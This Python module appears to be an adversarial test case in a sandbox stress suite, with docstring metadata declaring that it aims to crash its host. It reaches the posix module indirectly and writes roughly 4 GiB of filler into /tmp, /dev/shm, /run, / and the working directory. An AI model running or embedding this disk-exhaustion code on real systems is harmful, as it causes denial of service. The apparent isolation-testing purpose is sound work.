"""Writes up to four gigabytes to each place that it may write to.

family: resources
aims-at: crash
needs: box
canary: file /tmp/racecourse-canary-disk-0
canary: file /var/tmp/racecourse-canary-disk-0
canary: shm racecourse-canary-disk-0
"""

import sys

posix = sys.modules["posix"]
PLACES = (".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/")
LEFT = [4096]  # MiB


def fill():
    piece = bytes(1 << 20)
    for place in PLACES:
        for number in range(80):
            try:
                descriptor = posix.open(f"{place}/racecourse-canary-disk-{number}", posix.O_CREAT | posix.O_WRONLY)
                for _ in range(60):
                    LEFT[0] -= 1
                    if LEFT[0] > 0:
                        posix.write(descriptor, piece)
            except OSError:
                break
            finally:
                try:
                    posix.close(descriptor)
                except (OSError, NameError):
                    pass


def search(name):
    fill()


def buy(name):
    return None


def run(name, mutex):
    fill()
    return True
